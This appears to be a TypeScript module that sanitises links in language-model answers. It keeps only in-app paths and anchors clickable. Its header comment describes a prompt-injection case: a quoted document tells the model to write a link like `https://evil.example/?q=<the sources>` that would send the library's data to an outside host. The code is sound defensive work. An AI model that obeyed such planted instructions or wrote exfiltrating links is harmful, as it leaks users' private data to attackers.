/**
 * Which links in an answer stay links. An answer's Markdown comes from a language model or, in
 * extractive mode, from quoted documents, and a document can tell a model what to write: a link
 * such as `https://evil.example/?q=<the sources>` would make one click send the library away.
 * Only links into this app itself (a path such as `/documents/…`, or an anchor) stay clickable;
 * any other is shown as plain text with its full address, for the reader to judge and copy.
 */

/** The href to render as a link, or undefined when the link must be shown as text. */
export function libraryHref(href: string | undefined): string | undefined {
  if (!href) return undefined;
  const trimmed = href.trim();
  if (trimmed.startsWith("#")) return trimmed;
  // A path of this app; "//host" and "/\\host" are other hosts to a browser.
  if (/^\/(?![/\\])/.test(trimmed)) return trimmed;
  return undefined;
}

/** The visible text of a link, to tell whether showing its address would repeat it. */
export function linkShowsItsAddress(text: string, href: string): boolean {
  const normalise = (value: string) =>
    value
      .trim()
      .replace(/^mailto:/i, "")
      .replace(/\/$/, "")
      .toLowerCase();
  return normalise(text) === normalise(href);
}
